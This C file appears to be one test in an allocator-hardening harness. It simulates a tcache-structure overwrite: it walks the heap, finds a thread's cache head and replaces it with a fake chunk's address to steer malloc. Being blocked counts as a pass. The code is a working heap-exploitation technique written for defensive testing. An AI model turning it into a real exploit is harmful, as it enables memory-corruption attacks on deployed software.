/*
 * misuse_metadata.c - overwriting the thread-cache structure with a linear
 * overflow from a user block.
 *
 * With one arena for all threads (M_ARENA_MAX=1, common on servers), a
 * new thread's cache structure is carved where the arena has room: right
 * after the last user block.  The attacker finds it by its contents: after
 * the thread freed a block x, the structure holds the head of x's class,
 * x itself.  The child walks the main heap
 * chunk by chunk from its first block to the break and looks for that
 * word in every chunk; found, it overwrites it with a fake chunk's address
 * (an overflow that rewrites the bytes before it unchanged) and lets the
 * thread malloc.  Not found anywhere after a user block, the structure is
 * not reachable by a linear overflow: the child exits "blocked", and that
 * is a pass too.  See misuse.h.
 */
#include <pthread.h>
#include "misuse.h"

static _Alignas(16) word fake[8];

struct th {
    void *x;
    int go[2], done[2];
};

static void *thread_main(void *arg)
{
    struct th *t = arg;
    t->x = malloc(40);
    free(t->x);                        /* the head of class 40 is x */
    misuse_post(t->done[1]);
    misuse_wait(t->go[0]);
    for (int i = 0; i < 4; i++)
        check_target("thread-cache structure overwritten", malloc(40), &fake[2], 32);
    misuse_post(t->done[1]);
    return NULL;
}

/* The first word in [lo, hi) (skipping [skip, skip+skiplen)) that is x.
 * (The heads are raw pointers in the structure; a safe-linked form would
 * match entries' links too, which is another technique.) */
static word *find_head(char *lo, char *hi, void *x, char *skip, size_t skiplen)
{
    for (word *w = (word *)lo; (char *)(w + 1) <= hi; w++) {
        if ((char *)w >= skip && (char *)w < skip + skiplen)
            continue;
        if (*w == (word)x)
            return w;
    }
    return NULL;
}

static void t_tcache_struct(void *arg)
{
    (void)arg;
    static struct th t;
    mallopt(M_ARENA_MAX, 1);
    char *first = malloc(16);          /* the walk starts here */
    void *a = malloc(0x100);           /* the block that will overflow */
    pthread_t th = misuse_thread(thread_main, &t, t.go, t.done);
    misuse_wait(t.done[0]);
    if (cflags(t.x) & 4)
        setup_failed("the thread did not share the main arena");
    /* Also this thread's own cache: free y, look for it as well. */
    void *y = malloc(40);
    free(y);
    char *end = sbrk(0);
    word *hit = NULL;
    void *hit_chunk = NULL;
    for (char *c = first - 16; c + 16 <= end;) {
        word size = ((word *)c)[1] & SZ_MASK;
        if (size < 32 || c + size > end)
            break;                     /* top's last bytes, or not a chunk walk any more */
        char *mem = c + 16;
        char *lim = c + size;
        hit = find_head(mem, lim, t.x, (char *)t.x, 16);
        if (!hit)
            hit = find_head(mem, lim, y, (char *)y, 16);
        if (hit) {
            hit_chunk = mem;
            break;
        }
        c += size;
    }
    if (!hit) {
        fprintf(stderr, "BLOCKED: no cache head in any chunk from the first user block to the break\n");
        fflush(stderr);
        _exit(MISUSE_BLOCKED);
    }
    fprintf(stderr, "found the head %#zx (%s cache) at %p in the chunk at %p (overflow from %p)\n",
            (size_t)*hit, *hit == (word)t.x ? "the other thread's" : "this thread's",
            (void *)hit, hit_chunk, a);
    fake[1] = 0x30 | 1;
    void *target = &fake[2];
    *hit = (word)target;
    /* The main thread's cache too, if that is what was hit. */
    for (int i = 0; i < 4; i++)
        check_target("thread-cache structure overwritten", malloc(40), target, 32);
    misuse_post(t.go[1]);
    misuse_wait(t.done[0]);
    pthread_join(th, NULL);
}

static const struct technique tab[] = {
    { "tcache_struct", t_tcache_struct,
      "one arena: find a thread's cache structure after a user block, overwrite a head, malloc",
      { "malloc(): corrupted tcache link", "malloc(): unaligned tcache chunk detected",
        "malloc(): corrupted chunk header" },
      1 },
};

MISUSE_MAIN("metadata", tab)
